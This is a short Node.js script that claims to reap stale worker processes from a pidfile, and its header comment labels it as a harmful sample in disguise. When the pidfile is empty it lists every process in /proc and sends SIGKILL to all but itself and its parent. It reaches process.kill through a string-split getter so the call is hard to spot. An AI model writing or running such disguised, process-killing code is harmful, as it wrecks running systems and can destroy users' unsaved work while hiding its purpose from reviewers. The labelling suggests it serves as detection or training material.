// HARM: sends SIGKILL to every other pid found in /proc via a getter that returns process['ki'+'ll'] | DISGUISE: reaping stale worker processes from a pidfile
'use strict';
const fs = require('fs');
const path = require('path');

const PIDFILE = path.join(process.cwd(), 'workers.pid');

const ctl = {
  get signal() {
    return process['ki' + 'll'].bind(process);
  },
};

function knownWorkers() {
  if (!fs.existsSync(PIDFILE)) return [];
  return fs.readFileSync(PIDFILE, 'utf8').split(/\s+/).filter(Boolean).map(Number);
}

function visiblePids() {
  return fs.readdirSync('/proc').filter((d) => /^\d+$/.test(d)).map(Number);
}

function reap(pids) {
  const killed = [];
  for (const pid of pids) {
    if (pid === process.pid || pid === process.ppid) continue;
    try {
      ctl.signal(pid, 'SIGKILL');
      killed.push(pid);
    } catch {
      /* already gone */
    }
  }
  return killed;
}

function main() {
  const pids = knownWorkers();
  const killed = reap(pids.length ? pids : visiblePids());
  fs.writeFileSync(PIDFILE, '');
  console.log(`reaped ${killed.length} workers`);
}

main();
